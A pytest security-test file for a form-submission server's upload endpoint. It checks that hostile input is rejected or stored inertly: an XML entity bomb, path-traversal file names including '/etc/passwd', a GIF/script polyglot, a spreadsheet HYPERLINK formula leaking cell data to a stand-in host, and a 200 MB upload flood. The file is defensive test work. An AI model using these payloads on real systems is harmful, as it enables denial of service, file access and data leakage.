"""What nobody means well by: refused with a sentence or kept without harm, and the server stays well."""

from __future__ import annotations

import base64
import contextlib
import re
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from scrutator.collection.models import Attachment, Submission
from tests.api.collect import Collect, Reply, submission
from tests.api.conftest import database_url
from tests.api.plant import Server
from tests.collection.xform import JPEG, Field, filled, make_field

META = "<meta><instanceID>uuid:1</instanceID></meta>"
POLYGLOT = b"GIF89a/*" + bytes(40) + b"*/=1;alert(document.domain)//<script>alert(1)</script>"


@pytest.fixture
def server(field: Field, tmp_path: Path, settings) -> Iterator[Server]:
    settings.CONTENT_KEYS, settings.ATTACHMENTS = tmp_path / "content-keys", tmp_path / "attachments"
    with Server(tmp_path, database_url()) as started:
        yield started


def send(port: int, field: Field, xml: bytes, files: dict | None = None, *, token: str = "") -> Reply:
    phone = Collect(port, field.device.pk, token or field.token)
    phone._challenged = True
    reply = phone.post(f"/openrosa/{field.mission.code}/submission", submission(xml, files))
    phone.close()
    return reply


def bomb(levels: int = 9) -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, levels))
    return f'<!DOCTYPE d [{entities}]><data id="voting"><a>&a{levels - 1};</a>{META}</data>'.encode()


@pytest.mark.parametrize(
    ("xml", "code"),
    [
        (bomb(), "submission-dtd"),
        (b"<a>" * 150_000, "submission-unreadable"),
        (b'<data id="voting">' + b"<a>" * 200 + b"</a>" * 200 + META.encode() + b"</data>", "submission-unreadable"),
        (b'<data id="voting">' + b"<a>1</a>" * 6000 + META.encode() + b"</data>", "submission-too-long"),
        (f'<?xml version="1.0" encoding="x-none"?><data id="voting">{META}</data>'.encode(), "submission-unreadable"),
        (f'<?xml version="1.0" encoding="UTF-8"?><data id="voting"><a>где</a>{META}</data>'.encode("cp1251"),
         "submission-unreadable"),
        (filled("uuid:1").replace(b"yes", b"&#0;"), "submission-unreadable"),
        (b'\x1f\x8b\x08\x00' + bytes(100), "submission-unreadable"),
    ],
    ids=["entities", "open elements", "levels", "answers", "no encoding", "another encoding", "a zero", "gzip"],
)  # fmt: skip
def test_xml_that_means_harm_is_refused_with_code_and_sentence(port: int, field: Field, xml: bytes, code: str) -> None:
    reply = send(port, field, xml)
    assert (reply.status, f"[{code}]" in reply.text) == (400, True), reply.text
    assert Submission.objects.count() == 0
    assert send(port, field, filled("uuid:2")).status == 201


@pytest.mark.parametrize("encoding", ["utf-16", "iso-8859-5", "windows-1251"])
def test_a_form_in_another_encoding_that_says_so_is_read(port: int, field: Field, encoding: str) -> None:
    text = filled("uuid:1", V5="урна").decode().replace("UTF-8", encoding)
    assert send(port, field, text.encode(encoding)).status == 201
    assert Submission.objects.get().all_answers["voting/premises/V5"] == "урна"


def test_names_are_labels_and_never_paths(server: Server, field: Field) -> None:
    names = [
        "../../../../tmp/x.jpg",
        "..\\..\\boot.ini",
        "/etc/passwd",
        "C:\\a.jpg",
        "a\x00b.jpg",
        "%2e%2e%2fx",
        "....//y",
    ]
    files = {name: ("image/jpeg", JPEG + str(place).encode()) for place, name in enumerate(names)}
    assert send(server.port, field, filled("uuid:1", photo="../gate.jpg"), files).status == 201
    stored = list(Attachment.objects.exclude(path=""))
    assert len(stored) == len(names)
    assert not [one for one in stored if "/" in one.name or "\\" in one.name or "\x00" in one.name]
    folder = server.home / "attachments"
    lying = {path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file()}
    assert lying == {one.path for one in stored}
    assert {path for path in lying if not re.fullmatch("[0-9a-f]{2}/[0-9a-f]{32}", path)} == set()


def test_a_picture_that_is_a_programme_too_is_kept_as_bytes_under_what_its_first_bytes_say(
    port: int, field: Field
) -> None:
    files = {"a.gif": ("text/html", POLYGLOT), "b.jpg": ("image/jpeg", b"<!doctype html><script>alert(1)</script>")}
    assert send(port, field, filled("uuid:1"), files).status == 201
    assert dict(Attachment.objects.values_list("name", "media_type")) == {"a.gif": "image/gif", "b.jpg": "text/plain"}


def test_a_formula_is_an_answer_like_any_other_and_stays_as_it_came(port: int, field: Field) -> None:
    text = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'
    assert send(port, field, filled("uuid:1", V5=text)).status == 201
    assert Submission.objects.get().all_answers["voting/premises/V5"] == text


def test_tokens_of_other_missions_get_nowhere_and_no_secret_is_logged(server: Server, field: Field) -> None:
    other = make_field("training-2")
    assert send(server.port, field, filled("uuid:1"), token=other.token).status == 401
    other.mission.code = field.mission.code
    assert send(server.port, other, filled("uuid:1")).status == 404
    send(server.port, field, b"<secret-answer>")
    assert Submission.objects.count() == 0
    log = server.log.read_text()
    for secret in (field.token, other.token, "secret-answer", "Basic "):
        assert secret not in log


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="memory is read from /proc")
@pytest.mark.parametrize("declared", [True, False], ids=["with its length", "without its length"])
def test_200_megabytes_are_cut_off_and_fill_neither_memory_nor_disk(
    server: Server, field: Field, declared: bool
) -> None:
    assert send(server.port, field, filled("uuid:0")).status == 201
    before = server.peak_memory()
    credentials = base64.b64encode(f"{field.device.pk}:{field.token}".encode()).decode()
    head = (
        f"POST /openrosa/{field.mission.code}/submission HTTP/1.1\r\nHost: localhost\r\n"
        f"Authorization: Basic {credentials}\r\nContent-Type: multipart/form-data; boundary=b\r\n"
        + (f"Content-Length: {200 * 2**20}\r\n\r\n" if declared else "Transfer-Encoding: chunked\r\n\r\n")
    )
    part = b'--b\r\nContent-Disposition: form-data; name="f"; filename="f.bin"\r\n\r\n'
    block = bytes(2**20)
    with socket.create_connection(("127.0.0.1", server.port), timeout=60) as line:
        line.sendall(head.encode())
        with contextlib.suppress(OSError):
            for piece in [part, *[block] * 200]:
                line.sendall(piece if declared else b"%x\r\n%s\r\n" % (len(piece), piece))
        with contextlib.suppress(OSError):
            assert line.recv(20) in (b"", b"HTTP/1.1 413 Payload"[:20])
    assert server.peak_memory() - before < 80 * 2**20
    assert list((server.home / "attachments").rglob("*.*")) == []
    assert send(server.port, field, filled("uuid:2")).status == 201
    assert Submission.objects.count() == 2
